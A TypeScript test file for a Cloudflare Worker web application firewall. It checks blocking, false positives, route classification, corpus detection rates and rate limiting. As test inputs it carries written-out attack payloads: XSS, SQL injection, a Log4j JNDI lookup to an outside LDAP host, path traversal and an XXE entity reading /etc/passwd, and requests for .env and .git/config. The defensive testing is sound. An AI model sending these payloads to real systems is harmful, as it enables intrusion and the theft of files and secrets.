// biome-ignore-all lint/suspicious/noTemplateCurlyInString: `${...}` here are literal Log4j lookups, the payloads under test.
import { env, SELF } from "cloudflare:test";
import { Hono, type MiddlewareHandler } from "hono";
import { describe, expect, it } from "vitest";
import { createApp } from "../../worker/app.ts";
import { ApiError, errorBody } from "../../worker/errors.ts";
import type { Logger } from "../../worker/logger.ts";
import { waf } from "../../worker/middleware/waf/index.ts";
import { ROUTE_CLASSES, type RouteClass } from "../../worker/routes.ts";
import { WAF_CATEGORIES } from "../../worker/waf/index.ts";
import { REQUEST_RULES, VALUE_RULES } from "../../worker/waf/rules/index.ts";
import { bodyBytes, type CorpusRequest, wafCorpus } from "../fixtures/waf/corpus.ts";
import { STRONG_PASSWORD, uniqueEmail } from "../support/api-client.ts";
import { TEST_SECRETS } from "../support/test-env.ts";

const ORIGIN = "http://example.com";
const RULE_WORDS = [...VALUE_RULES, ...REQUEST_RULES].map((rule) => rule.id);

async function expectBlocked(response: Response) {
  expect(response.status).toBe(403);
  const body = (await response.json()) as { error: { code: string; message: string; requestId: string } };
  expect(body.error.code).toBe("waf_blocked");
  expect(body.error.requestId).toBe(response.headers.get("X-Request-Id"));
  expect(Object.keys(body.error).sort()).toEqual(["code", "message", "requestId"]);
  for (const word of [...RULE_WORDS, ...WAF_CATEGORIES, "score"])
    expect(body.error.message).not.toContain(word);
  // The block is still a response of ours: security headers and all.
  expect(response.headers.get("X-Content-Type-Options")).toBe("nosniff");
}

function expectNotBlocked(response: Response, what: string) {
  expect(response.status, what).not.toBe(403);
  expect(response.status, what).toBeLessThan(500);
}

describe("WAF in the Worker", () => {
  it("blocks attacks on pages, the API, ops routes and unknown paths with 403 waf_blocked", async () => {
    await expectBlocked(await SELF.fetch(`${ORIGIN}/markets?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E`));
    await expectBlocked(
      await SELF.fetch(`${ORIGIN}/api/v1/auth/login`, {
        method: "POST",
        headers: { "Content-Type": "application/json" },
        body: JSON.stringify({ email: "admin'--", password: "x" }),
      }),
    );
    await expectBlocked(
      await SELF.fetch(`${ORIGIN}/healthz`, {
        headers: { "User-Agent": "${${lower:j}ndi:ldap://x.example/a}" },
      }),
    );
    await expectBlocked(await SELF.fetch(`${ORIGIN}/.env`));
    await expectBlocked(await SELF.fetch(`${ORIGIN}/.git/config`));
    await expectBlocked(await SELF.fetch(`${ORIGIN}/markets/..%252f..%252f..%252fetc%252fpasswd`));
    await expectBlocked(
      await SELF.fetch(`${ORIGIN}/api/v1/markets`, { headers: { "User-Agent": "sqlmap/1.8.11#stable" } }),
    );
    await expectBlocked(
      await SELF.fetch(`${ORIGIN}/login`, {
        method: "POST",
        headers: { "Content-Type": "application/xml" },
        body: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
      }),
    );
  });

  it("lets the look-alikes through, and the route still reads the body the WAF read", async () => {
    expectNotBlocked(
      await SELF.fetch(`${ORIGIN}/markets?q=select%20the%20best%20O%27Brien%20%26%20AT%26T%20%3C3`),
      "page",
    );
    // The API parses the JSON after the WAF: a signup succeeds...
    const signup = await SELF.fetch(`${ORIGIN}/api/v1/auth/signup`, {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ email: uniqueEmail("obrien"), password: STRONG_PASSWORD }),
    });
    expect(signup.status).toBe(201);
    // ...and a login with SQL-ish punctuation in the password is judged by the password check.
    const login = await SELF.fetch(`${ORIGIN}/api/v1/auth/login`, {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ email: "o.brien@example.ie", password: "select the best; drop me a note <3" }),
    });
    expect(login.status).toBe(401);
    expect(((await login.json()) as { error: { code: string } }).error.code).toBe("invalid_credentials");
    // Remix reads the raw form after the WAF: a JavaScript-off login post, a password full of
    // punctuation (the pages declare the password field), answered by the page, not the WAF.
    const page = await SELF.fetch(`${ORIGIN}/login`, {
      method: "POST",
      headers: { "Content-Type": "application/x-www-form-urlencoded" },
      body: new URLSearchParams({
        intent: "password",
        redirectTo: "/",
        email: "o.brien@example.ie",
        password: "x7$Kp'#;ls>--",
      }).toString(),
      redirect: "manual",
    });
    expectNotBlocked(page, "login form post");
    expect(await page.text()).toContain("not correct");
  });

  it("never blocks the markets list, the probes, or monitoring with its token", async () => {
    for (const agent of [
      "Prometheus/2.55.1",
      "kube-probe/1.31",
      "curl/8.7.1",
      "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    ]) {
      const markets = await SELF.fetch(`${ORIGIN}/api/v1/markets`, { headers: { "User-Agent": agent } });
      expect(markets.status, agent).toBe(200);
      expect(((await markets.json()) as { markets: unknown[] }).markets.length).toBeGreaterThan(0);
      expect(
        (await SELF.fetch(`${ORIGIN}/healthz`, { headers: { "User-Agent": agent } })).status,
        agent,
      ).toBe(200);
      expect((await SELF.fetch(`${ORIGIN}/readyz`, { headers: { "User-Agent": agent } })).status, agent).toBe(
        200,
      );
    }
    const prometheus = await SELF.fetch(`${ORIGIN}/metrics/prometheus`, {
      headers: {
        "User-Agent": "Prometheus/2.55.1",
        Authorization: `Bearer ${TEST_SECRETS.OPS_TOKEN}`,
        Accept: "application/openmetrics-text;version=1.0.0,text/plain;version=0.0.4;q=0.5,*/*;q=0.1",
      },
    });
    expect(prometheus.status).toBe(200);
    expect((await SELF.fetch(`${ORIGIN}/healthz`, { method: "HEAD" })).status).toBe(200);
  });
});

describe("route classes", () => {
  it("every route exported from worker/api declares a valid class", () => {
    const modules = import.meta.glob("../../worker/api/*.ts", { eager: true }) as Record<
      string,
      Record<string, unknown>
    >;
    let routes = 0;
    for (const [file, exports] of Object.entries(modules)) {
      for (const [name, value] of Object.entries(exports)) {
        if (
          !Array.isArray(value) ||
          !value.every((item) => typeof item === "object" && item && "handler" in item)
        )
          continue;
        for (const route of value as { method: string; path: string; routeClass?: string }[]) {
          routes++;
          expect(
            ROUTE_CLASSES as readonly string[],
            `${file} ${name} ${route.method} ${route.path}`,
          ).toContain(route.routeClass);
        }
      }
    }
    expect(routes).toBeGreaterThan(20);
  });

  it("every route of the app is classified and behind the WAF; the page catch-all is public", async () => {
    const app = createApp({ pages: async () => new Response("page") });
    const groups = new Map<string, string[]>();
    for (const route of app.routes) {
      const key = `${route.method} ${route.path}`;
      groups.set(key, [...(groups.get(key) ?? []), route.handler.name]);
    }
    const unclassified: string[] = [];
    for (const [key, handlers] of groups) {
      if (handlers.includes("classify") || handlers.includes("classifyPage")) {
        expect(handlers, key).toContain("wafMiddleware");
        expect(handlers.indexOf("wafMiddleware"), key).toBeGreaterThan(
          Math.max(handlers.indexOf("classify"), handlers.indexOf("classifyPage")),
        );
      } else {
        unclassified.push(key);
      }
    }
    // `app.all("*")` and the global `app.use()` middleware share "ALL /*": the pages' class
    // and WAF come after the global middleware there.
    const pages = groups.get("ALL /*") ?? [];
    expect(pages.indexOf("wafMiddleware")).toBeGreaterThan(pages.indexOf("classifyPage"));
    expect(pages.indexOf("classifyPage")).toBeGreaterThan(pages.indexOf("requestIdMiddleware"));
    // The only route without a class may be the API's not-found answer, which runs no code
    // of a route: proven by behaviour, not by its path.
    for (const key of unclassified) {
      const [method, path] = key.split(" ") as [string, string];
      const probe = path.replace("*", "no-such-route");
      const response = await app.request(
        `${ORIGIN}${probe}`,
        { method: method === "ALL" ? "GET" : method },
        env,
      );
      expect(response.status, key).toBe(404);
      expect(((await response.json()) as { error: { code: string } }).error.code, key).toBe("not_found");
    }
  });
});

describe("the corpus inside workerd", () => {
  /**
   * The same middleware, in the runtime that serves production: workerd's Request, Headers,
   * streams, TextDecoder, URL parser and ICU. Every request of the corpus, built as a real
   * Request, answered by a handler that reads the body after the WAF.
   */
  function corpusApp() {
    const logger = { debug() {}, info() {}, warn() {}, error() {}, child: () => logger } as unknown as Logger;
    const byRoute = new Map<string, MiddlewareHandler>();
    const wafFor = (request: CorpusRequest) => {
      const key = `${request.routeClass}:${JSON.stringify(request.exclusions ?? [])}`;
      let middleware = byRoute.get(key);
      if (!middleware) {
        middleware = waf({
          routeClass: request.routeClass as RouteClass,
          ...(request.exclusions ? { exclusions: request.exclusions } : {}),
        }) as unknown as MiddlewareHandler;
        byRoute.set(key, middleware);
      }
      return middleware;
    };
    let current: CorpusRequest | undefined;
    const app = new Hono<{
      Variables: { logFields: Record<string, unknown>; logger: Logger; requestId: string };
    }>();
    app.use(async (c, next) => {
      c.set("requestId", "corpus-request-0001");
      c.set("logger", logger);
      c.set("logFields", {});
      await next();
    });
    app.use((c, next) => (current ? wafFor(current)(c, next) : next()));
    app.all("*", async (c) => c.json({ length: (await c.req.text()).length }));
    app.onError((error, c) => {
      if (error instanceof ApiError) return c.json(errorBody(error, c.get("requestId")), error.status);
      throw error;
    });
    return async (request: CorpusRequest): Promise<number | "refused by the runtime"> => {
      let built: Request;
      try {
        const body = bodyBytes(request);
        built = new Request(request.url, {
          method: request.method,
          headers: request.headers,
          ...(body && request.method !== "GET" && request.method !== "HEAD"
            ? { body: new Uint8Array(body) }
            : {}),
        });
      } catch {
        // workerd refuses some methods (TRACE, CONNECT) and header values outright.
        return "refused by the runtime";
      }
      current = request;
      const response = await app.fetch(built, env);
      return response.status;
    };
  }

  it("blocks no legitimate request and at least 97 % of the attacks in every position", async () => {
    const run = corpusApp();
    // Every hand-written request, and every 8th generated payload and text in all four
    // positions (the whole corpus runs in Node: npm run waf:eval, test/unit/waf/corpus.test.ts).
    const { attacks, legitimate } = wafCorpus({ sample: 8 });
    const falsePositives: string[] = [];
    for (const request of legitimate) {
      const status = await run(request);
      if (status !== 200) falsePositives.push(`${request.id} ${request.note}: ${status}`);
    }
    expect(falsePositives).toEqual([]);
    let stopped = 0;
    const missed: string[] = [];
    const byPosition = new Map<string, { total: number; stopped: number }>();
    for (const request of attacks) {
      const status = await run(request);
      const wasStopped = status === 403 || status === "refused by the runtime";
      if (wasStopped) stopped++;
      else missed.push(`${request.id} ${request.note}`);
      if (request.position) {
        const cell = byPosition.get(request.position) ?? { total: 0, stopped: 0 };
        cell.total++;
        if (wasStopped) cell.stopped++;
        byPosition.set(request.position, cell);
      }
    }
    expect(stopped / attacks.length, missed.join("\n")).toBeGreaterThanOrEqual(0.97);
    expect([...byPosition.keys()].sort()).toEqual(["form", "header", "json", "query"]);
    for (const [position, cell] of byPosition) {
      expect(cell.stopped / cell.total, `${position}: ${missed.join("\n")}`).toBeGreaterThanOrEqual(0.97);
    }
  });
});

describe("the WAF score feeds the rate limiter", () => {
  it("slows, then refuses, one address that keeps sending near-threshold requests; others are untouched", async () => {
    const probe = (ip: string) =>
      SELF.fetch(`${ORIGIN}/api/v1/markets?q=${encodeURIComponent("x' or y=z")}`, {
        headers: { "CF-Connecting-IP": ip },
      });
    const prober = `198.18.${Math.floor(Date.now() / 1000) % 250}.${(Date.now() % 200) + 1}`;
    const statuses: number[] = [];
    const elapsedMs: number[] = [];
    let refused: Response | undefined;
    // Each probe scores 3 (a quote, then `or`): under the threshold, so the WAF passes it.
    for (let attempt = 0; attempt < 12; attempt++) {
      const started = Date.now();
      const response = await probe(prober);
      elapsedMs.push(Date.now() - started);
      statuses.push(response.status);
      if (response.status === 429) {
        refused = response;
        break;
      }
      await response.arrayBuffer();
    }
    // 30 points a minute: five probes served at once, then held longer and longer, then refused.
    expect(statuses.slice(0, 5)).toEqual([200, 200, 200, 200, 200]);
    expect(Math.max(...elapsedMs.slice(5, -1))).toBeGreaterThanOrEqual(300);
    expect(statuses.at(-1)).toBe(429);
    if (!refused) throw new Error("never refused");
    expect(((await refused.json()) as { error: { code: string } }).error.code).toBe("rate_limited");
    expect(Number(refused.headers.get("Retry-After"))).toBeGreaterThan(0);
    // A clean request from another address is neither charged nor slowed.
    const other = await SELF.fetch(`${ORIGIN}/api/v1/markets?q=bitcoin`, {
      headers: { "CF-Connecting-IP": "198.19.7.7" },
    });
    expect(other.status).toBe(200);
  });
});
